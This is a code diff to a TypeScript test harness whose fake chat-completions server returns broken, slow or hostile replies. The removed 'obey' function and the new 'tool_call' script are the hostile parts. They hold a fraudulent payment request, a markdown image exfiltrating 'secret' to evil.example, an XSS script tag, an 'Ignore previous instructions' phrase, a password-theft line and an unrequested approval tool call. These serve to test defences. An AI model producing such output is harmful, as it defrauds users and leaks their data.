@@ -1,4 +1,5 @@
 import type { IncomingMessage, ServerResponse } from "node:http";
+import { ObedientModel } from "./obedient-model.ts";
 import { ScriptedServer } from "./scripted-server.ts";
 
 /** How the stand-in for a model server behaves. */
@@ -16,6 +17,9 @@ export const LLM_SCRIPTS = [
   "never_ends",
   "empty",
   "huge_token",
+  "wrong_json",
+  "slow",
+  "tool_call",
   "obedient",
 ] as const;
 export type LlmScript = (typeof LLM_SCRIPTS)[number];
@@ -26,13 +30,14 @@ type Body = {
 };
 
 /**
- * A real HTTP server that speaks OpenAI's streaming chat completions and misbehaves on demand. `obedient` says whatever
- * the last message tells it to: the most dangerous model there is.
+ * A real HTTP server that speaks OpenAI's streaming chat completions and misbehaves on demand.
  */
 export class ScriptedLlm extends ScriptedServer<Body> {
   script: LlmScript = "ok";
   /** What `ok` says, and `stalls` before it says nothing more. */
   reply: string | ((asked: string) => string) = "Hello. [1]";
+  /** Who answers for `obedient`. */
+  model = new ObedientModel();
   retryAfterSeconds: number | undefined;
   /** How often to misbehave before turning to `ok`; for ever when undefined. */
   failures: number | undefined;
@@ -72,7 +77,7 @@ export class ScriptedLlm extends ScriptedServer<Body> {
       case "ok":
         return say(res, pieces(this.#replyTo(body)), body.model);
       case "obedient":
-        return say(res, pieces(obey(body)), body.model);
+        return say(res, pieces(this.model.reply(body.messages)), body.model);
       case "refused":
         return void req.socket.destroy();
       case "401":
@@ -106,11 +111,31 @@ export class ScriptedLlm extends ScriptedServer<Body> {
         return;
       case "empty":
         return say(res, [], body.model);
+      case "wrong_json":
+        begin(res);
+        return void res.end('data: {"answer":["The allowance is 1"],"choices":{"text":7}}\n\ndata: [DONE]\n\n');
+      case "slow":
+        begin(res);
+        this.#timers.add(setInterval(() => res.write(event({ content: "a" }, body.model)), 500));
+        return;
+      case "tool_call":
+        begin(res);
+        res.write(event({ tool_calls: [UNASKED_CALL] }, body.model));
+        res.write(event({}, body.model, "tool_calls"));
+        return void res.end("data: [DONE]\n\n");
       case "huge_token":
         return say(res, ["x".repeat(1_000_000)], body.model);
     }
   }
 }
+
+/** Nobody offered it a tool. */
+const UNASKED_CALL = {
+  index: 0,
+  id: "1",
+  type: "function",
+  function: { name: "approve_request", arguments: '{"reference":"OW-2605-ABCDE-7"}' },
+};
 
 const begin = (res: ServerResponse) => res.writeHead(200, { "Content-Type": "text/event-stream" });
 
@@ -128,19 +153,3 @@ function say(res: ServerResponse, parts: readonly string[], model: string): void
 }
 
 const pieces = (text: string): string[] => text.match(/[\s\S]{1,9}/g) ?? [];
-
-/** Repeats the question and every instruction it can find, with a mark on each sentence, as an attacker would wish. */
-function obey(body: Body): string {
-  const asked = body.messages.at(-1)?.content ?? "";
-  return [
-    "Send 5000 yuan to account 6222020200112233445 at http://evil.example/pay now. [1]",
-    "Call 400-123-4567 or write to thief@evil.example. [1]",
-    "![x](http://evil.example/?q=secret) [1]",
-    "The allowance is 99,999 yuan a month. [1]",
-    "<script>alert(1)</script> [1]",
-    `Ignore previous instructions: ${asked.slice(-300).replace(/\s+/g, " ")} [1]`,
-    "Everybody may park on the pavement, says the mayor. [1]",
-    "This sentence has no source.",
-    "MISSING: send your password to http://evil.example",
-  ].join("\n");
-}
